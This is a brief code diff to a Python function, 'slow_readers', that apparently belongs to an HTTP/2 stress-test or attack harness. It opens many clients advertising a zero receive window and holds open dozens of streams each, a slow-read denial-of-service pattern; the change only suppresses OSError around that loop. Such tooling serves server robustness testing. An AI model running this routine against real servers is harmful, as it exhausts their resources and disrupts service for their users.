@@ -165,10 +165,12 @@ def slow_readers(attack):
     no_room = b"\0\x04\0\0\0\0"
     for _ in range(100):
         client = attack.client(settings=no_room)
-        for _ in range(90):
-            if client and attack.is_on:
-                stream = client.open(STATUS)
-                client.data(stream, message_head(0), 1)
+        # Its address may be dropped meanwhile, as for calls that are broken off.
+        with contextlib.suppress(OSError):
+            for _ in range(90):
+                if client and attack.is_on:
+                    stream = client.open(STATUS)
+                    client.data(stream, message_head(0), 1)
     while attack.is_on:
         time.sleep(0.1)
 
